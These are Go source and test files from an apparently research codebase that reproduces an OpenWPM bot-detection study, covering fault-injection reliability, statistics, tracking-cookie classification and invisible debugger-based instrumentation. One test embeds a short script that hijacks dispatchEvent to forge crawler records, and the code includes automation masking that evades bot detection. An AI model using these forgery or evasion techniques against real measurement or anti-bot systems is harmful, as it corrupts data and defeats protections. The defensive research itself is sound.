		Title:  fmt.Sprintf("Crawl completion under injected faults (%d sites, fault seed %d)", r.Sites, r.FaultSeed),
		Header: []string{"metric", "vanilla", "hardened"},
	}
	row := func(name string, f func(*openwpm.CrawlReport) any) {
		t.AddRow(name, f(r.Vanilla), f(r.Hardened))
	}
	row("completion rate", func(c *openwpm.CrawlReport) any { return fmt.Sprintf("%.1f%%", 100*c.CompletionRate()) })
	row("completed sites", func(c *openwpm.CrawlReport) any { return c.Completed })
	row("salvaged partials", func(c *openwpm.CrawlReport) any { return c.Salvaged })
	row("failed sites", func(c *openwpm.CrawlReport) any { return c.Failed })
	row("skipped (budget)", func(c *openwpm.CrawlReport) any { return c.Skipped })
	row("browser restarts", func(c *openwpm.CrawlReport) any { return c.Restarts })
	row("circuit-broken sites", func(c *openwpm.CrawlReport) any { return c.CircuitBroken })
	row("virtual seconds", func(c *openwpm.CrawlReport) any { return fmt.Sprintf("%.0f", c.VirtualSeconds+c.BackoffSeconds) })
	row("dropped writes", func(c *openwpm.CrawlReport) any { return c.DroppedWrites })
	for _, k := range sortedKeysByCount(r.FaultKinds) {
		t.AddRow("injected "+k+" faults", r.FaultKinds[k], r.FaultKinds[k])
	}
	t.Notes = append(t.Notes,
		"both pipelines face the identical seeded fault stream; the hardened pipeline's watchdog, classification, backoff and salvage convert budget-devouring hangs and hard failures into completed or salvaged sites",
	)
	return t
}
