package experiments

import (
	"fmt"

	"gullible/internal/study"
)

// Table1 derives the Table 1 tallies from the embedded literature dataset
// and contrasts them with the values the paper states.
func Table1() *Table {
	t := &Table{
		ID:     "Table 1",
		Title:  "Measurement characteristics in 72 peer-reviewed OpenWPM studies",
		Header: []string{"characteristic", "derived", "paper"},
	}
	tl := study.Tally()
	p := study.PaperTable1
	t.AddRow("measures HTTP", tl.MeasuresHTTP, p["http"])
	t.AddRow("measures cookies", tl.MeasuresCookies, p["cookies"])
	t.AddRow("measures JavaScript", tl.MeasuresJS, p["js"])
	t.AddRow("other (automation only)", tl.MeasuresOther, p["other"])
	t.AddRow("no interaction", tl.NoInteraction, p["no-interaction"])
	t.AddRow("clicking", tl.Clicking, p["clicking"])
	t.AddRow("scrolling", tl.Scrolling, p["scrolling"])
	t.AddRow("typing", tl.Typing, p["typing"])
	t.AddRow("subpages visited", tl.SubpagesVisited, p["subpages-visited"])
	t.AddRow("subpages not visited", tl.SubpagesNotVisited, p["subpages-not-visited"])
	t.AddRow("bot detection ignored", tl.BDIgnored, p["bd-ignored"])
	t.AddRow("bot detection discussed", tl.BDDiscussed, p["bd-discussed"])
	t.AddRow("uses anti-bot-detection", tl.AntiBD, "-")
	for mode, n := range tl.ModeCounts {
		t.AddRow("run mode "+string(mode), n, "-")
	}
	return t
}

// Table14 renders the Firefox-integration timeline with computed lag.
func Table14() *Table {
	t := &Table{
		ID:     "Table 14",
		Title:  "Migration to newer Firefox releases in OpenWPM",
		Header: []string{"Firefox", "release date", "OpenWPM", "integration date"},
	}
	for _, r := range study.Releases {
		t.AddRow(r.Firefox, r.ReleaseDate, r.OpenWPM, r.Integrated)
	}
	window, outdated, frac := study.OutdatedStats()
	t.Notes = append(t.Notes, fmt.Sprintf(
		"computed: outdated on %d of %d days (%.0f%%); paper: 540 of 780 days (69%%)",
		outdated, window, 100*frac))
	return t
}

// Table15 renders the full literature table.
func Table15() *Table {
	t := &Table{
		ID:    "Table 15",
		Title: "Peer-reviewed studies using OpenWPM",
		Header: []string{"year", "ref", "venue", "author", "mode", "VM",
			"cookies", "HTTP", "JS", "scroll", "click", "type", "subpages", "anti-BD", "mentions BD"},
	}
	for _, s := range study.Studies {
		t.AddRow(s.Year, fmt.Sprintf("[%d]", s.Ref), s.Venue, s.Author, string(s.Mode),
			check(s.VM), check(s.Cookies), check(s.HTTP), check(s.JS),
			check(s.Scrolling), check(s.Clicking), check(s.Typing),
			check(s.Subpages), check(s.AntiBD), check(s.MentionsBD))
	}
	return t
}
