package experiments

import (
	"bytes"
	"encoding/json"
	"testing"

	"gullible/internal/faults"
	"gullible/internal/telemetry"
	"gullible/internal/websim"
)

// instrumentedScan runs one seeded faulty scan with a fresh world and a fresh
// registry and returns the canonical-JSON snapshot bytes.
func instrumentedScan(t *testing.T) ([]byte, *ScanResult) {
	t.Helper()
	profile := faults.DefaultProfile()
	world := websim.New(websim.Options{Seed: 7, NumSites: 60})
	tel := telemetry.New()
	r := RunScanOpts(world, 60, ScanOptions{
		MaxSubpages:     3,
		FaultProfile:    &profile,
		FaultSeed:       3,
		MaxVisitSeconds: 30,
		Telemetry:       tel,
	}, nil)
	if r.Metrics == nil {
		t.Fatal("instrumented scan returned no metrics snapshot")
	}
	data, err := r.Metrics.CanonicalJSON()
	if err != nil {
		t.Fatal(err)
	}
	return data, r
}

// Two identical seeded scans must serialise to byte-identical snapshots even
// though the crawl is sharded across parallel workers: all series are atomic
// and order-independent, and the snapshot is taken once at the end.
func TestScanTelemetryDeterministic(t *testing.T) {
	if testing.Short() {
		t.Skip("full synthetic-web crawl; skipped in -short mode (verify.sh races the whole repo short, the long tier runs it in full)")
	}
	a, ra := instrumentedScan(t)
	b, _ := instrumentedScan(t)
	if !bytes.Equal(a, b) {
		if diff := ra.Metrics.Diff(mustSnapshot(t, b)); diff != nil {
			t.Fatalf("snapshots diverged between identical runs; differing series: %v", diff)
		}
		t.Fatalf("snapshots diverged between identical runs:\n%s\n---\n%s", a, b)
	}

	// The snapshot must agree with the crawl report's own accounting.
	rep := ra.Report
	sites := ra.Metrics.Total("crawl_sites_total")
	if sites != int64(rep.Sites) {
		t.Fatalf("crawl_sites_total = %d, report says %d", sites, rep.Sites)
	}
	if got := ra.Metrics.Counters["crawl_sites_total{outcome=completed}"]; got != int64(rep.Completed) {
		t.Fatalf("completed counter = %d, report says %d", got, rep.Completed)
	}
	if got := ra.Metrics.Total("crawl_restarts_total"); got != int64(rep.Restarts) {
		t.Fatalf("restart counter = %d, report says %d", got, rep.Restarts)
	}
	if got := ra.Metrics.Total("storage_drops_total"); got != int64(rep.DroppedWrites) {
		t.Fatalf("storage-drop counter = %d, report says %d", got, rep.DroppedWrites)
	}
	if got := ra.Metrics.Gauges["crawl_progress_done"]; got != int64(rep.Sites) {
		t.Fatalf("crawl_progress_done = %d, want %d", got, rep.Sites)
	}
	if ra.Metrics.Total("faults_injected_total") == 0 {
		t.Fatal("faulty scan recorded no injected faults")
	}
}

func mustSnapshot(t *testing.T, data []byte) *telemetry.Snapshot {
	t.Helper()
	// round-trip through the canonical encoding
	var s telemetry.Snapshot
	if err := json.Unmarshal(data, &s); err != nil {
		t.Fatal(err)
	}
	return &s
}

// Telemetry-free scans must behave exactly as before: no snapshot attached.
func TestScanWithoutTelemetryHasNoMetrics(t *testing.T) {
	world := websim.New(websim.Options{Seed: 7, NumSites: 30})
	r := RunScanOpts(world, 30, ScanOptions{MaxSubpages: 1}, nil)
	if r.Metrics != nil || r.Report.Metrics != nil {
		t.Fatal("uninstrumented scan attached a metrics snapshot")
	}
}

// The legacy progress callback signature must keep working through the
// ProgressObserver adapter, including a nil callback.
func TestProgressFuncAdapter(t *testing.T) {
	calls := 0
	var obs ProgressObserver = ProgressFunc(func(done, total int) { calls++ })
	obs.OnProgress(1, 2)
	if calls != 1 {
		t.Fatalf("adapter forwarded %d calls, want 1", calls)
	}
	var nilFunc ProgressFunc
	nilFunc.OnProgress(1, 2) // must not panic
}

// RunReliability with telemetry gives each pipeline its own registry, so the
// vanilla and hardened metrics must differ (the hardened run restarts and
// salvages) while each report carries its own snapshot and span trace.
func TestReliabilityTelemetryPerRun(t *testing.T) {
	r := RunReliability(11, 2, ReliabilityOptions{NumSites: 40, Telemetry: true})
	if r.Vanilla.Metrics == nil || r.Hardened.Metrics == nil {
		t.Fatal("reliability runs missing metrics snapshots")
	}
	if len(r.VanillaTrace) == 0 || len(r.HardenedTrace) == 0 {
		t.Fatal("reliability runs missing span traces")
	}
	if diff := r.Vanilla.Metrics.Diff(r.Hardened.Metrics); len(diff) == 0 {
		t.Fatal("vanilla and hardened pipelines produced identical metrics under faults")
	}
}
