package experiments

import (
	"testing"

	"gullible/internal/analysis"
)

func TestStaticDynamicAgreement(t *testing.T) {
	if testing.Short() {
		t.Skip("full synthetic-web crawl; skipped in -short mode (verify.sh races the whole repo short, the long tier runs it in full)")
	}
	run := func() (*AgreementResult, string) {
		a := RunStaticDynamicAgreement(42, 300, nil)
		return a, TableAgreement(a).String()
	}
	a, out1 := run()
	_, out2 := run()
	if out1 != out2 {
		t.Fatalf("agreement report not deterministic:\n--- run 1\n%s--- run 2\n%s", out1, out2)
	}

	rows := map[string]AgreementRow{}
	for _, r := range a.Rows {
		rows[r.Rule] = r
	}
	if len(a.Rows) != len(analysis.AllRules) {
		t.Fatalf("report has %d rows, want one per rule (%d)", len(a.Rows), len(analysis.AllRules))
	}

	// The synthetic web deploys plain detectors (static and dynamic agree),
	// hover-gated detectors (static-only: the probe never fires — the
	// gullibility gap) and concat-obfuscated detectors (AST-visible, so they
	// land in Both, not DynamicOnly).
	wd := rows[analysis.RuleWebdriverProbe]
	if wd.Both == 0 {
		t.Error("webdriver-probe: no agreeing scripts; plain detectors should be seen by both sides")
	}
	if wd.StaticOnly == 0 {
		t.Error("webdriver-probe: no static-only scripts; hover-gated detectors never fire dynamically")
	}
	if wd.DynamicOnly > wd.Both {
		t.Errorf("webdriver-probe: dynamic-only (%d) should be rare now that folding defeats concat obfuscation (both=%d)",
			wd.DynamicOnly, wd.Both)
	}
	if mk := rows[analysis.RuleOpenWPMMarker]; mk.Both == 0 {
		t.Error("openwpm-marker: no agreeing scripts; OpenWPM-specific tags probe markers on both sides")
	}
	for _, rule := range []string{analysis.RuleDescriptorRead, analysis.RuleToStringLeak} {
		r := rows[rule]
		if r.Paired {
			t.Errorf("%s should be unpaired (no dynamic counterpart)", rule)
		}
		if r.DynamicOnly != 0 {
			t.Errorf("%s: unpaired rule has dynamic-only hits (%d)", rule, r.DynamicOnly)
		}
	}
	if rows[analysis.RuleDescriptorRead].StaticOnly == 0 {
		t.Error("descriptor-read: first-party bot managers read descriptors; expected static hits")
	}
	if a.TamperedScripts == 0 {
		t.Error("scan persisted no tamper records despite CrawlConfig.Tamper being wired")
	}
}
