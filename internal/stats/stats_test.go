package stats

import (
	"math/rand"
	"testing"
	"testing/quick"
)

func TestWilcoxonDetectsShift(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	n := 100
	x := make([]float64, n)
	y := make([]float64, n)
	for i := range x {
		base := rng.Float64() * 100
		x[i] = base
		y[i] = base + 5 + rng.Float64()*2 // consistent upward shift
	}
	res := Wilcoxon(x, y)
	if !res.OK {
		t.Fatal("test did not run")
	}
	if res.P > 0.0001 {
		t.Errorf("p = %v, want < 0.0001 for a consistent shift", res.P)
	}
}

func TestWilcoxonNoShift(t *testing.T) {
	rng := rand.New(rand.NewSource(2))
	n := 200
	x := make([]float64, n)
	y := make([]float64, n)
	for i := range x {
		x[i] = rng.NormFloat64()
		y[i] = rng.NormFloat64()
	}
	res := Wilcoxon(x, y)
	if !res.OK {
		t.Fatal("test did not run")
	}
	if res.P < 0.01 {
		t.Errorf("p = %v; independent noise should not be significant", res.P)
	}
}

func TestWilcoxonIdenticalSamples(t *testing.T) {
	x := []float64{1, 2, 3, 4, 5}
	res := Wilcoxon(x, x)
	if res.OK {
		t.Error("all-zero differences must not produce a result")
	}
	if res.N != 0 {
		t.Errorf("N = %d", res.N)
	}
}

func TestWilcoxonSymmetry(t *testing.T) {
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		n := 30
		x := make([]float64, n)
		y := make([]float64, n)
		for i := range x {
			x[i] = rng.Float64() * 10
			y[i] = rng.Float64() * 10
		}
		a := Wilcoxon(x, y)
		b := Wilcoxon(y, x)
		// swapping the samples must not change W or p
		return a.W == b.W && a.P == b.P
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 50}); err != nil {
		t.Fatal(err)
	}
}

func TestPercentChange(t *testing.T) {
	if got := PercentChange(100, 105); got != 5 {
		t.Errorf("PercentChange = %v", got)
	}
	if got := PercentChange(200, 150); got != -25 {
		t.Errorf("PercentChange = %v", got)
	}
	if got := PercentChange(0, 0); got != 0 {
		t.Errorf("PercentChange(0,0) = %v", got)
	}
}
