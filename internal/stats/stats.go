// Package stats provides the statistical tests the paper's evaluation uses:
// the Wilcoxon signed-rank test (Sec. 6.3 significance claims) and small
// descriptive helpers.
package stats

import (
	"math"
	"sort"
)

// WilcoxonResult is the outcome of a Wilcoxon signed-rank test.
type WilcoxonResult struct {
	W  float64 // min of positive/negative rank sums
	Z  float64 // normal approximation
	P  float64 // two-sided p-value
	N  int     // pairs with non-zero difference
	OK bool    // false when too few non-zero pairs
}

// Wilcoxon performs the paired signed-rank test on x vs y using the normal
// approximation with tie correction; pairs with zero difference are dropped
// (Wilcoxon's original treatment).
func Wilcoxon(x, y []float64) WilcoxonResult {
	if len(x) != len(y) {
		panic("stats: Wilcoxon requires equal-length samples")
	}
	type pair struct {
		abs  float64
		sign float64
	}
	var pairs []pair
	for i := range x {
		d := x[i] - y[i]
		if d == 0 {
			continue
		}
		p := pair{abs: math.Abs(d), sign: 1}
		if d < 0 {
			p.sign = -1
		}
		pairs = append(pairs, p)
	}
	n := len(pairs)
	if n < 5 {
		return WilcoxonResult{N: n}
	}
	sort.Slice(pairs, func(i, j int) bool { return pairs[i].abs < pairs[j].abs })

	// assign average ranks to ties and accumulate the tie correction term
	ranks := make([]float64, n)
	tieTerm := 0.0
	for i := 0; i < n; {
		j := i
		for j < n && pairs[j].abs == pairs[i].abs {
			j++
		}
		avg := float64(i+j+1) / 2 // ranks are 1-based: (i+1 + j) / 2
		for k := i; k < j; k++ {
			ranks[k] = avg
		}
		t := float64(j - i)
		if t > 1 {
			tieTerm += t*t*t - t
		}
		i = j
	}

	var wPlus, wMinus float64
	for i, p := range pairs {
		if p.sign > 0 {
			wPlus += ranks[i]
		} else {
			wMinus += ranks[i]
		}
	}
	w := math.Min(wPlus, wMinus)
	nf := float64(n)
	mean := nf * (nf + 1) / 4
	variance := nf*(nf+1)*(2*nf+1)/24 - tieTerm/48
	if variance <= 0 {
		return WilcoxonResult{W: w, N: n}
	}
	z := (w - mean) / math.Sqrt(variance)
	p := 2 * normalCDF(-math.Abs(z))
	if p > 1 {
		p = 1
	}
	return WilcoxonResult{W: w, Z: z, P: p, N: n, OK: true}
}

// normalCDF is Φ(x) for the standard normal distribution.
func normalCDF(x float64) float64 {
	return 0.5 * math.Erfc(-x/math.Sqrt2)
}

// Sum adds a slice.
func Sum(xs []float64) float64 {
	s := 0.0
	for _, x := range xs {
		s += x
	}
	return s
}

// Mean averages a slice (0 for empty input).
func Mean(xs []float64) float64 {
	if len(xs) == 0 {
		return 0
	}
	return Sum(xs) / float64(len(xs))
}

// PercentChange returns the relative change from base to new in percent.
func PercentChange(base, val float64) float64 {
	if base == 0 {
		if val == 0 {
			return 0
		}
		return math.Inf(1)
	}
	return (val - base) / base * 100
}
