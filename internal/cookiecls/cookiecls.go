// Package cookiecls classifies cookies as tracking cookies using the
// criteria of Englehardt et al. as refined by Chen et al. (Sec. 6.3.3 of the
// paper): non-session, value length ≥ 8, always set, long-living (≥ 3
// months), and user-identifying values as judged by Ratcliff-Obershelp
// similarity across clients.
package cookiecls

// SecondsIn3Months is the long-living threshold (criterion 4).
const SecondsIn3Months = 90 * 24 * 3600

// MinValueLen is the minimum identifier length (criterion 2).
const MinValueLen = 8

// SimilarityThreshold: values from different clients more similar than this
// are not user-identifying (criterion 5).
const SimilarityThreshold = 0.66

// Observation is one cookie observed across repeated runs on two clients.
type Observation struct {
	Name   string
	Domain string
	// ExpiresSeconds is the lifetime; 0 marks a session cookie.
	ExpiresSeconds float64
	// ValuesA and ValuesB are the observed values per run for each client.
	ValuesA []string
	ValuesB []string
	// RunsObserved / RunsTotal implement "the cookie is always set".
	RunsObserved int
	RunsTotal    int
}

// IsTracking applies the five criteria.
func IsTracking(o Observation) bool {
	// (1) not a session cookie
	if o.ExpiresSeconds == 0 {
		return false
	}
	// (4) long-living
	if o.ExpiresSeconds < SecondsIn3Months {
		return false
	}
	// (3) always set
	if o.RunsTotal == 0 || o.RunsObserved < o.RunsTotal {
		return false
	}
	// (2) identifier-sized value
	if shortest(o.ValuesA) < MinValueLen && shortest(o.ValuesB) < MinValueLen {
		return false
	}
	// (5) values differ significantly across clients
	for _, a := range o.ValuesA {
		for _, b := range o.ValuesB {
			if RatcliffObershelp(trimQuotes(a), trimQuotes(b)) >= SimilarityThreshold {
				return false
			}
		}
	}
	return len(o.ValuesA) > 0 && len(o.ValuesB) > 0
}

func shortest(vals []string) int {
	if len(vals) == 0 {
		return 0
	}
	min := len(trimQuotes(vals[0]))
	for _, v := range vals[1:] {
		if l := len(trimQuotes(v)); l < min {
			min = l
		}
	}
	return min
}

func trimQuotes(s string) string {
	if len(s) >= 2 && s[0] == '"' && s[len(s)-1] == '"' {
		return s[1 : len(s)-1]
	}
	return s
}

// RatcliffObershelp computes the Ratcliff/Obershelp pattern-recognition
// similarity of two strings in [0, 1]: twice the number of matching
// characters (longest common substring, applied recursively to the
// unmatched flanks) over the total length.
func RatcliffObershelp(a, b string) float64 {
	if len(a) == 0 && len(b) == 0 {
		return 1
	}
	if len(a) == 0 || len(b) == 0 {
		return 0
	}
	m := matchingChars(a, b)
	return 2 * float64(m) / float64(len(a)+len(b))
}

// matchingChars recursively counts characters in common substrings.
func matchingChars(a, b string) int {
	ai, bi, size := longestCommonSubstring(a, b)
	if size == 0 {
		return 0
	}
	n := size
	n += matchingChars(a[:ai], b[:bi])
	n += matchingChars(a[ai+size:], b[bi+size:])
	return n
}

// longestCommonSubstring returns the start offsets and length of the longest
// common substring of a and b (first-leftmost on ties, matching difflib).
func longestCommonSubstring(a, b string) (ai, bi, size int) {
	if len(a) == 0 || len(b) == 0 {
		return 0, 0, 0
	}
	// dynamic programming over suffix match lengths; O(len(a)*len(b))
	prev := make([]int, len(b)+1)
	cur := make([]int, len(b)+1)
	for i := 1; i <= len(a); i++ {
		for j := 1; j <= len(b); j++ {
			if a[i-1] == b[j-1] {
				cur[j] = prev[j-1] + 1
				if cur[j] > size {
					size = cur[j]
					ai = i - size
					bi = j - size
				}
			} else {
				cur[j] = 0
			}
		}
		prev, cur = cur, prev
	}
	return ai, bi, size
}
