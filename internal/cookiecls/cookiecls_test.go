package cookiecls

import (
	"testing"
	"testing/quick"
)

func TestRatcliffObershelpKnownValues(t *testing.T) {
	cases := []struct {
		a, b string
		want float64
	}{
		{"abc", "abc", 1},
		{"", "", 1},
		{"abc", "", 0},
		{"abc", "xyz", 0},
	}
	for _, c := range cases {
		if got := RatcliffObershelp(c.a, c.b); got != c.want {
			t.Errorf("RO(%q, %q) = %v, want %v", c.a, c.b, got, c.want)
		}
	}
	// matches Python difflib.SequenceMatcher.ratio: 2*7/18 ≈ 0.778
	if got := RatcliffObershelp("WIKIMEDIA", "WIKIMANIA"); got < 0.777 || got > 0.779 {
		t.Errorf("RO(WIKIMEDIA, WIKIMANIA) = %v, want ≈ 0.778", got)
	}
}

func TestRatcliffObershelpProperties(t *testing.T) {
	f := func(a, b string) bool {
		if len(a) > 64 {
			a = a[:64]
		}
		if len(b) > 64 {
			b = b[:64]
		}
		s := RatcliffObershelp(a, b)
		if s < 0 || s > 1 {
			return false
		}
		// identity
		if RatcliffObershelp(a, a) != 1 {
			return false
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

func trackingObs() Observation {
	return Observation{
		Name: "uid", Domain: "tracker.com",
		ExpiresSeconds: 180 * 24 * 3600,
		ValuesA:        []string{"aaaaaaaaaaaaaaaa1111", "aaaaaaaaaaaaaaaa1111", "aaaaaaaaaaaaaaaa1111"},
		ValuesB:        []string{"zzzz9999qqqq0000xkcd", "zzzz9999qqqq0000xkcd", "zzzz9999qqqq0000xkcd"},
		RunsObserved:   3, RunsTotal: 3,
	}
}

func TestIsTracking(t *testing.T) {
	if !IsTracking(trackingObs()) {
		t.Error("canonical tracking cookie not classified as tracking")
	}
	// (1) session cookie
	o := trackingObs()
	o.ExpiresSeconds = 0
	if IsTracking(o) {
		t.Error("session cookie classified as tracking")
	}
	// (2) short value
	o = trackingObs()
	o.ValuesA = []string{"ab", "ab", "ab"}
	o.ValuesB = []string{"xy", "xy", "xy"}
	if IsTracking(o) {
		t.Error("short-value cookie classified as tracking")
	}
	// (3) not always set
	o = trackingObs()
	o.RunsObserved = 2
	if IsTracking(o) {
		t.Error("intermittent cookie classified as tracking")
	}
	// (4) short-lived
	o = trackingObs()
	o.ExpiresSeconds = 24 * 3600
	if IsTracking(o) {
		t.Error("short-lived cookie classified as tracking")
	}
	// (5) same value on both clients (e.g. a consent flag)
	o = trackingObs()
	o.ValuesB = o.ValuesA
	if IsTracking(o) {
		t.Error("client-independent cookie classified as tracking")
	}
}
