// Package dbginstrument implements the instrumentation strategy the paper
// recommends as future work (Sec. 8, "Towards robust instrumentation"):
// recording JavaScript API accesses entirely OUTSIDE page scope, through the
// engine's debugger interface, instead of wrapping functions in the page.
//
// Because nothing in the page changes — no wrappers, no injected globals,
// no redefined descriptors — this instrument is invisible to toString
// probes, stack traces, prototype inspection and template attacks, cannot
// be blocked by CSP, and cannot be intercepted or forged through
// document.dispatchEvent. The trade-off the paper anticipates also holds:
// the debugger sees property accesses (including method lookups) but not
// the arguments of subsequent calls.
package dbginstrument

import (
	"gullible/internal/browser"
	"gullible/internal/jsdom"
	"gullible/internal/minjs"
	"gullible/internal/openwpm"
	"gullible/internal/stealth"
)

// Instrument records API accesses through the engine's property-access
// debugger hook. It implements openwpm.Instrumentor.
type Instrument struct {
	// MaskAutomation additionally hides the WebDriver fingerprint (the
	// Sec. 6.1.5 masking); the recording itself needs no masking at all.
	MaskAutomation bool
	Settings       stealth.Settings

	// symbols maps (owning prototype, property) → API path across ALL
	// realms of the current page: cross-realm access (a parent reading a
	// subframe's navigator) evaluates in the parent's engine but touches
	// the frame's prototypes. Reset on each new top document.
	symbols map[apiKey]apiInfo
}

type apiKey struct {
	owner *minjs.Object
	name  string
}

type apiInfo struct {
	symbol   string
	frameURL string
}

// New returns a debugger-based instrument with automation masking on.
func New() *Instrument {
	return &Instrument{MaskAutomation: true, Settings: stealth.DefaultSettings()}
}

// Name implements openwpm.Instrumentor.
func (di *Instrument) Name() string { return "debugger_instrument" }

// TopInstallError implements openwpm.Instrumentor; engine-level hooks can
// never fail to install.
func (di *Instrument) TopInstallError() error { return nil }

// OnWindow attaches the debugger hook to a fresh realm. The hook is set at
// realm creation, so even immediate frame access (Listing 3) is covered.
func (di *Instrument) OnWindow(b *browser.Browser, st *openwpm.Storage, d *jsdom.DOM, top bool) {
	if di.MaskAutomation {
		stealth.MaskAutomation(d, di.Settings)
	}

	// register this realm's instrumentable prototypes in the shared map
	if top || di.symbols == nil {
		di.symbols = map[apiKey]apiInfo{}
	}
	for _, api := range d.InstrumentableAPIs() {
		owner, prop := api.Proto.FindProperty(api.Name)
		if prop == nil {
			continue
		}
		di.symbols[apiKey{owner, api.Name}] = apiInfo{symbol: api.Path(), frameURL: d.URL}
	}

	d.It.PropAccessHook = func(owner *minjs.Object, key string) {
		info, ok := di.symbols[apiKey{owner, key}]
		if !ok {
			return
		}
		st.AddJSCall(openwpm.JSCall{
			TopURL:    b.FinalURL(),
			FrameURL:  info.frameURL,
			Symbol:    info.symbol,
			Operation: "get",
			ScriptURL: d.It.CurrentScript(),
			Time:      b.Now(),
		})
	}
}
