package dbginstrument

import (
	"strings"
	"testing"

	"gullible/internal/fingerprint"
	"gullible/internal/httpsim"
	"gullible/internal/jsdom"
	"gullible/internal/openwpm"
)

type web struct{ pages map[string]*httpsim.Response }

func (w *web) RoundTrip(req *httpsim.Request) (*httpsim.Response, error) {
	if resp, ok := w.pages[req.URL]; ok {
		return resp, nil
	}
	return &httpsim.Response{Status: 404, Headers: map[string]string{"Content-Type": "text/plain"}}, nil
}

func page(body string, headers map[string]string) *httpsim.Response {
	h := map[string]string{"Content-Type": "text/html"}
	for k, v := range headers {
		h[k] = v
	}
	return &httpsim.Response{Status: 200, Headers: h, Body: body}
}

func tmFor(w *web) *openwpm.TaskManager {
	return openwpm.NewTaskManager(openwpm.CrawlConfig{
		OS: jsdom.Ubuntu, Mode: jsdom.Regular,
		Transport: w, DwellSeconds: 2,
		HTTPInstrument: true, CookieInstrument: true,
		Stealth: New(), // plugs into the same Instrumentor slot
	})
}

func TestRecordsAccesses(t *testing.T) {
	w := &web{pages: map[string]*httpsim.Response{
		"https://a.com/": page(`<script src="/p.js"></script>`, nil),
		"https://a.com/p.js": {Status: 200, Headers: map[string]string{"Content-Type": "text/javascript"},
			Body: "navigator.userAgent; screen.availTop;"},
	}}
	tm := tmFor(w)
	if _, err := tm.VisitSite("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	calls := tm.Storage.JSCallsBySymbol()
	if calls["Navigator.userAgent"] == 0 || calls["Screen.availTop"] == 0 {
		t.Errorf("debugger hook missed accesses: %v", calls)
	}
	var attributed bool
	for _, c := range tm.Storage.JSCalls {
		if c.Symbol == "Navigator.userAgent" && strings.Contains(c.ScriptURL, "p.js") {
			attributed = true
		}
	}
	if !attributed {
		t.Error("script attribution missing")
	}
}

func TestPerfectlyInvisible(t *testing.T) {
	// the instrumented realm is template-identical to a human browser
	w := &web{pages: map[string]*httpsim.Response{"https://a.com/": page("<html></html>", nil)}}
	tm := tmFor(w)
	b := tm.NewBrowser()
	if _, err := b.Visit("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	baseline := jsdom.Build(jsdom.BaselineConfig(jsdom.Ubuntu, 90), &jsdom.NopHost{}, "https://a.com/")
	diff := fingerprint.Compare(fingerprint.CaptureTemplate(baseline), fingerprint.CaptureTemplate(b.Top))
	if diff.Total() != 0 {
		t.Errorf("template diff vs human baseline: %s\nmissing=%v added=%v changed=%v",
			diff, trim(diff.Missing), trim(diff.Added), trim(diff.Changed))
	}
	if n := fingerprint.CountTamperedAPIs(b.Top); n != 0 {
		t.Errorf("tampered APIs = %d, want 0", n)
	}
	if findings := (fingerprint.Detector{}).Detect(b.Top); len(findings) != 0 {
		t.Errorf("detector findings: %v", findings)
	}
}

func trim(s []string) []string {
	if len(s) > 5 {
		return s[:5]
	}
	return s
}

func TestDispatcherAndForgeryIneffective(t *testing.T) {
	attack := `
		document.dispatchEvent = function (e) { return true; };
		navigator.oscpu; // must still be recorded
		document.dispatchEvent(new CustomEvent("openwpm-00000000", {detail: {symbol: "Navigator.FAKE"}}));
	`
	w := &web{pages: map[string]*httpsim.Response{"https://a.com/": page("<script>"+attack+"</script>", nil)}}
	tm := tmFor(w)
	if _, err := tm.VisitSite("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	calls := tm.Storage.JSCallsBySymbol()
	if calls["Navigator.oscpu"] == 0 {
		t.Error("recording blocked by dispatcher attack")
	}
	if calls["Navigator.FAKE"] != 0 {
		t.Error("forged record accepted")
	}
}

func TestCSPIrrelevant(t *testing.T) {
	w := &web{pages: map[string]*httpsim.Response{
		"https://csp.com/": page(`<script src="/p.js"></script>`,
			map[string]string{"Content-Security-Policy": "script-src 'self'; report-uri /csp"}),
		"https://csp.com/p.js": {Status: 200, Headers: map[string]string{"Content-Type": "text/javascript"},
			Body: "navigator.userAgent;"},
	}}
	tm := tmFor(w)
	if _, err := tm.VisitSite("https://csp.com/"); err != nil {
		t.Fatal(err)
	}
	if tm.Storage.JSCallsBySymbol()["Navigator.userAgent"] == 0 {
		t.Error("engine-level hook blocked by CSP")
	}
}

func TestIframeImmediateAccessRecorded(t *testing.T) {
	w := &web{pages: map[string]*httpsim.Response{
		"https://a.com/": page(`<div id="u"></div><script>
			setTimeout(function () {
				var f = document.createElement("iframe");
				f.src = "https://a.com/frame";
				document.querySelector("#u").appendChild(f);
				f.contentWindow.navigator.userAgent;
			}, 100);
		</script>`, nil),
		"https://a.com/frame": page("<html></html>", nil),
	}}
	tm := tmFor(w)
	tm.Cfg.DwellSeconds = 2
	if _, err := tm.VisitSite("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	var caught bool
	for _, c := range tm.Storage.JSCalls {
		if c.FrameURL == "https://a.com/frame" && c.Symbol == "Navigator.userAgent" {
			caught = true
		}
	}
	if !caught {
		t.Error("immediate frame access missed by the debugger hook")
	}
}
