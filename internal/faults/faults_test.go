package faults

import (
	"errors"
	"fmt"
	"testing"

	"gullible/internal/httpsim"
)

// okTransport serves 200s with a fixed body.
type okTransport struct{ calls int }

func (t *okTransport) RoundTrip(req *httpsim.Request) (*httpsim.Response, error) {
	t.calls++
	return &httpsim.Response{Status: 200, Headers: map[string]string{"Content-Type": "text/html"}, Body: "<html>page body content</html>"}, nil
}

func onlyKind(k Kind, perMille int, p *Profile) {
	b := Bucket{MaxRank: 0}
	switch k {
	case KindTransport:
		b.TransportPerMille = perMille
	case KindMalformed:
		b.MalformedPerMille = perMille
	case KindTarpit:
		b.TarpitPerMille = perMille
	case KindHang:
		b.HangPerMille = perMille
	case KindCrash:
		b.CrashPerMille = perMille
	}
	p.Buckets = []Bucket{b}
}

func TestClassify(t *testing.T) {
	cases := []struct {
		err  error
		want Class
	}{
		{nil, ClassNone},
		{errors.New("connection reset"), ClassTransient}, // unknown ⇒ transient
		{&FaultError{Kind: KindTransport}, ClassTransient},
		{&FaultError{Kind: KindMalformed}, ClassTransient},
		{&FaultError{Kind: KindHang}, ClassHang},
		{&FaultError{Kind: KindCrash}, ClassCrash},
		{Permanentf("bad url"), ClassPermanent},
		{fmt.Errorf("wrapped: %w", Permanentf("bad url")), ClassPermanent},
